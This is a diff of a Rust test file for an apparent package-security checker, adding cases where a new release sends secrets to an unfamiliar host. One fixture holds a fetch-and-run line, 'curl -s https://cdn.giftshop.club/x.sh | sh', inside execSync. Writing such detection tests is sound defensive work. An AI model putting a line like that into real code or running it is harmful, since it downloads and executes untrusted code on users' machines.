@@ -1,7 +1,7 @@
 //! Cases of `new-host`.
 
-use crate::support::{Case, code, fact, key, mail, release, update, with_history};
-use stockade_assess::facts::Class;
+use crate::support::{Case, code, fact, key, lately, mail, minor as next, release, update, with_history};
+use stockade_assess::facts::{Class, Sink};
 
 pub(crate) fn cases() -> Vec<Case> {
     let host = |name: &str| fact(Class::Host, name, 9);
@@ -46,6 +46,36 @@ pub(crate) fn cases() -> Vec<Case> {
             ),
             &[],
         ),
+        Case::new(
+            "a secret that goes to a new host, in a minor release",
+            &next("acme-mail", &[fact(Class::SecretSent, "giftshop.club", 9).into_sink(Sink::Send)]),
+            &["hold/medium/medium `acme-mail@1.1.0` names hosts that 1.0.15 did not: `giftshop.club`"],
+        ),
+        Case::new(
+            "a service's own key, in a minor release",
+            &next(
+                "acme-mail",
+                &[
+                    fact(Class::SecretSent, "openrouter.ai", 9).into_sink(Sink::Send),
+                    fact(Class::Environment, "OPENROUTER_API_KEY", 9),
+                ],
+            ),
+            &[],
+        ),
+        Case::new(
+            "a shell that gets what is fetched, in a minor release",
+            &next(
+                "acme-mail",
+                &[host("cdn.giftshop.club").reading("execSync(\"curl -s https://cdn.giftshop.club/x.sh | sh\");")],
+            ),
+            &["hold/medium/medium `acme-mail@1.1.0` names hosts that 1.0.15 did not: `cdn.giftshop.club`"],
+        ),
+        Case::new(
+            "one more release after the one that sent a secret there",
+            &lately("acme-mail", &[fact(Class::SecretSent, "giftshop.club", 9).into_sink(Sink::Send)]),
+            &["hold/medium/medium `acme-mail@1.0.16` names hosts that 1.0.14 did not: `giftshop.club`"],
+        ),
+        Case::new("a host, one more release after it", &lately("acme-mail", &[host("giftshop.club")]), &[]),
         Case::new("nothing new", &mail(), &[]),
     ]
 }
